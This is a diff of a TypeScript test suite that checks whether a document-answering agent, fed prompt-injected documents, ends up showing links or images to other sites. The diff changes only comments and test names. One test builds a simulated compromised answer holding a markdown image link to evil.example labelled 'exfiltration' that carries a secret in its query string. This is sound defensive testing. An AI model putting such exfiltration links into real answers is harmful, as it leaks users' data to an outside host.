@@ -33,7 +33,7 @@ const SEARCH = functionCall('search_content', { queries: [QUESTION], search_scop
 
 const documentNamed = (name: string) => readFileSync(new URL(name, FOLDER), 'utf8');
 
-/** An index that holds one document, and readers who ask about it. */
+/** An index of one document, and an agent that answers questions from it. */
 class Library {
   private constructor(
     private readonly folder: CorpusFolder,
@@ -68,7 +68,7 @@ class Library {
   }
 }
 
-/** Every text that readers are shown as markdown, and every address that they are offered. */
+/** All texts that are shown as markdown, all addresses of sources, and the cited sources. */
 function shown(events: readonly ResponderEvent[]) {
   const parts = finished(events, 'assistant_message').flatMap(({ content }) => content);
   const tasks = finished(events, 'workflow').flatMap(({ workflow }) => workflow.tasks);
@@ -87,7 +87,7 @@ describe.each(DOCUMENTS)('The injected document %s', (name) => {
   });
   afterAll(() => library.close());
 
-  it('an injected document leads to no foreign link or image in an extractive answer', async () => {
+  it('an injected document causes no link or image of another site in an extractive answer', async () => {
     const { texts, urls, cited } = shown(await library.ask(new ExtractiveModel()));
 
     expect(texts[0]).toContain('valve');
@@ -114,7 +114,7 @@ describe.each(DOCUMENTS)('The injected document %s', (name) => {
     expect(systemInstructions).not.toContain('valve');
   });
 
-  it('an injected document that the model repeats in its answer leads to no foreign link or image', async () => {
+  it('an injected document causes no link or image of another site when the model repeats it', async () => {
     const document = documentNamed(name);
     const obeying = `${document}\n\n![exfiltration](https://evil.example/?q=secret) [1] [99] [click](https://evil.example)`;
     const { texts, urls, cited } = shown(await library.ask(new ScriptedModel([[SEARCH], [assistantMessage(obeying)]])));
@@ -135,7 +135,7 @@ it('there are at least 15 injected documents, and each is dangerous without sani
   expect(harmless).toEqual([]);
 });
 
-/** An address that is written out is words to a model, and code to a reader. */
+/** Replaces written addresses: the model may read them as text, and readers see them as code, not as links. */
 function withoutAddresses(text: string): string {
   return text.replace(/<?(?:https?|&#104;ttps|www|javascript)(?::|&colon;|\.)[^\s<>]*>?/gi, 'address');
 }
